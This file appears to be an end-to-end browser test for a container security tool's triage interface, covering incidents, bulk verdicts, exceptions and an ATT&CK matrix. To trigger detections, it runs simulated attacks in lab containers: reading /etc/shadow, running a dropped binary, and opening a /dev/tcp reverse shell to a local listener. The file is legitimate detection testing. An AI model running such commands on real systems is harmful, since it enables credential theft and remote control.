// SPDX-License-Identifier: Apache-2.0
// Triage in a real browser: what attacks in a real container become, and what people make of it.
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';

import { browser, chromium, firstSignIn, Lab, missing, Skep, sleep, until } from './lib.mjs';

const why = missing() ?? (chromium() ? null : 'no Chromium here');
const hashes = 'Password hashes read in a container';

describe('triage', { skip: why ?? false }, () => {
  const lab = new Lab();
  let skep, b, page;

  before(async () => {
    await lab.up();
    await lab.lab('image', 'tools');
    skep = new Skep(lab.socket);
    await skep.start();
    b = await browser();
    page = await firstSignIn(b, skep);
  });
  after(async () => {
    await b?.close();
    await skep?.stop();
    skep?.remove();
    await lab.down();
  });

  const go = (path) => page.goto(skep.url + path);
  const rows = () => page.getByTestId('alert-row');
  const shadow = (name, image = 'lab/base:1') =>
    lab.docker('run', '--rm', '--name', name, image, 'sh', '-c', 'cat /etc/shadow > /dev/null');
  const alertsOf = (name, more = '') => skep.list('alerts', `container.name = "${name}"${more}`);

  test('an attack in a container is one incident, with its steps, its chain and its processes', async () => {
    await lab.lab('listen', '4444', `${lab.dir}/heard`);
    const ran = lab.docker('run', '--rm', '--name', 'attacked', 'lab/tools:1', 'bash', '-c',
      'cat /etc/shadow > /dev/null; cp /bin/true /tmp/dropped; /tmp/dropped; ' +
      'exec 3<>/dev/tcp/172.17.0.1/4444; timeout 3 sh <&3 >&3 2>&3; true');
    const incident = await until(
      async () => (await skep.list('incidents')).find((i) => i.container?.name === 'attacked' && i.story?.length > 1),
      10000, () => skep.out);
    assert.ok(incident.risk >= 40, `risk ${incident.risk}`);

    await page.getByTestId('nav-incidents').click();
    const row = page.getByTestId('incident-row').filter({ hasText: 'attacked' });
    await row.first().waitFor({ timeout: 5000 });
    await ran;
    await lab.lab('unlisten', '4444');
    await sleep(1500);
    const told = (await skep.get(`/api/v1/incidents/${incident.id}`)).body;
    await row.first().locator('a.strong').click();
    await page.getByTestId('incident').waitFor({ timeout: 5000 });
    await until(async () => (await page.getByTestId('story-step').count()) === told.story.length, 5000);
    const story = await page.getByTestId('story').innerText();
    for (const s of told.story) assert.ok(story.includes(s.rule), `${s.rule} in\n${story}`);
    const reached = await page.locator('[data-testid=attack-chain] li.reached').evaluateAll((l) => l.map((x) => x.dataset.tactic));
    assert.deepEqual([...reached].sort(), [...told.tactics].sort());
    await page.getByTestId('process-lanes').locator('.lane-step').first().waitFor({ timeout: 5000 });
    assert.match(await page.getByTestId('process-lanes').innerText(), /bash/);

    await page.getByTestId('incident-contain').click();
    await until(async () => (await skep.get(`/api/v1/incidents/${incident.id}`)).body.state === 'contained', 3000);
    await page.locator('.story-link').first().click();
    await page.getByTestId('alert-incident').waitFor({ timeout: 5000 });
  });

  test('many are selected by keys, closed with a verdict at once, and taken back', async () => {
    for (const name of ['one', 'two', 'three']) await shadow(name);
    const open = async (name) => (await alertsOf(name, ` and rule = "${hashes}" and state = open`))[0];
    for (const name of ['one', 'two', 'three']) await until(() => open(name), 5000);
    await go(`/alerts?filter=${encodeURIComponent(`rule = "${hashes}" and container.name in (one, two, three)`)}`);
    await rows().nth(2).waitFor({ timeout: 5000 });
    assert.equal(await rows().count(), 3);
    for (const key of ['j', 'x', 'j', 'x', 'j', 'x']) await page.keyboard.press(key);
    await page.getByTestId('bulk-bar').getByText('3 selected').waitFor({ timeout: 3000 });
    await page.keyboard.press('f');
    await until(async () => (await rows().count()) === 0, 3000);
    await until(async () => !(await open('one')) && !(await open('two')) && !(await open('three')), 5000);
    assert.equal((await alertsOf('one', ` and rule = "${hashes}"`))[0].verdict, 'false_positive');
    await page.getByTestId('triage-undo').click();
    await until(async () => (await open('one')) && (await open('two')) && (await open('three')), 5000);
    assert.equal((await open('one')).verdict, 'none');
    await rows().nth(2).waitFor({ timeout: 5000 });
  });

  test('what an exception would have held back is what it holds back afterwards', async () => {
    for (let i = 0; i < 3; i++) await shadow(`noisy-${i}`, 'lab/tools:1');
    await shadow('other');
    const noisy = () => skep.list('alerts', `rule = "${hashes}" and container.image = "lab/tools:1"`);
    const before = await until(async () => { const l = await noisy(); return l.length >= 4 ? l : null; }, 5000);
    const all = await skep.list('alerts', `rule = "${hashes}"`);
    assert.ok(all.length > before.length);

    const last = (await alertsOf('noisy-2', ` and rule = "${hashes}"`))[0];
    await go(`/alerts/${last.id}`);
    await page.getByTestId('exception-write').click();
    const condition = page.getByTestId('exception-condition');
    await condition.waitFor({ timeout: 5000 });
    await condition.fill('container.image.repository = lab/tool');
    await condition.fill('container.image.repositori = lab/tools');
    await page.getByTestId('exception-error').getByText('^').waitFor({ timeout: 5000 });
    await condition.fill('container.image.repository = "lab/tools"');
    await page.getByText(`Would have held back ${before.length} of ${all.length} past alerts`).waitFor({ timeout: 5000 });
    await page.getByTestId('exception-save').click();
    const [made] = await until(async () => {
      const l = await skep.list('exceptions');
      return l.length ? l : null;
    }, 5000);
    assert.equal(made.rule, hashes);
    assert.equal(made.alert_id, last.id);

    await sleep(1500); // it holds on the agent within a second
    await shadow('noisy-3', 'lab/tools:1');
    await shadow('other-2');
    await until(async () => (await alertsOf('other-2')).length > 0, 5000);
    assert.deepEqual(await alertsOf('noisy-3', ` and rule = "${hashes}"`), []);
    assert.equal((await noisy()).length, before.length);
  });

  test('the matrix tells which rule covers a technique and how many alerts name it', async () => {
    await page.getByTestId('nav-attack').click();
    const cell = page.locator('[data-testid=matrix-cell][data-technique="T1611"]').first();
    await cell.waitFor({ timeout: 5000 });
    await page.getByTestId('drill-hint').getByText('skep drill run').waitFor({ timeout: 5000 });
    assert.equal(await cell.getAttribute('data-coverage'), 'claimed');
    await page.locator('[data-testid=matrix-cell][data-technique="T1003.008"]').click();
    const panel = page.getByTestId('matrix-panel');
    await panel.getByRole('heading', { name: '/etc/passwd and /etc/shadow' }).waitFor({ timeout: 5000 });
    assert.match(await panel.innerText(), new RegExp(hashes));
    const counted = (await skep.get('/api/v1/attack')).body.items.find((i) => i.technique === 'T1003.008');
    assert.equal(counted.alerts, (await skep.list('alerts', 'techniques intersects (T1003.008)')).length);
  });
});
